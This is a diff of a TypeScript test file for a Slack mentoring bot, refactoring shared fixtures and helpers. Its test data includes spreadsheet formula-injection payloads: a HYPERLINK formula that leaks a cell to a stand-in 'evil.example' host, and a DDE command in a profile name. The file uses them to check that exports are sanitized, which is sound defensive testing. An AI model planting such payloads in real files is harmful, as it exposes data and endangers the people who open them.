@@ -1,33 +1,23 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { ADMINS_ONLY } from '../../src/services/access.ts';
 import type { RecordedCall } from '../helpers/fake-slack.ts';
-import { eventually, everythingSent, logValues, pairUp, submitGoal, submitLog, submitLoop } from '../helpers/flows.ts';
-import { at, PEOPLE, TEAM, useTestBot } from '../helpers/test-bot.ts';
+import { answered, eventually, everythingSent, logValues, pairUp, SECRETS, submitGoal, submitLog, submitLoop } from '../helpers/flows.ts';
+import { at, PEOPLE, T2, T2_ADMIN, T2_MENTEE, T2_MENTOR, TEAM, useTestBot } from '../helpers/test-bot.ts';
 
 const TODAY = '2026-11-18T14:00:00Z';
-const SECRETS = ['SECRET-NOTE', 'SECRET-TOPIC', 'SECRET-ADVICE', 'SECRET-OUTCOME', 'SECRET-COMMIT', 'SECRET-GOAL'];
 // Titles a spreadsheet would mangle or run; all with consent, so they are exported (made safe).
 const TRICKY = 'Ship v2, then "celebrate"\nwith the team';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
 const FORMULAS = [HYPERLINK, '+1 more demo', '-1 open bugs', '@SUM(A1:A10)'];
 // A Slack profile name is someone else's text too.
 const EVIL = { id: 'UEVIL0001', real_name: '=cmd|"/c calc"!A0', tz: 'UTC' };
-const T2 = 'T2';
-const T2_ADMIN = { id: 'UT2ADMIN1', real_name: 'Other Admin', is_admin: true, tz: 'UTC', team_id: T2 };
-const T2_MENTOR = { id: 'UT2MENTOR', real_name: 'Other Mentor', tz: 'UTC', team_id: T2 };
-const T2_MENTEE = { id: 'UT2MENTEE', real_name: 'Other Mentee', tz: 'UTC', team_id: T2 };
 
 // One program, built once; the tests only read it.
 const t = useTestBot({ now: TODAY, resetTables: false });
 let p1: number;
 let p2: number;
 
-async function ok(res: Promise<{ status: number; json: any }>): Promise<any> {
-  const r = await res;
-  expect(r.status).toBe(200);
-  await t.bot.idle();
-  return r.json;
-}
+const ok = (res: Promise<{ status: number; json: any }>) => answered(t, res);
 
 beforeAll(async () => {
   t.fake.addUser({ team_id: TEAM, ...EVIL });
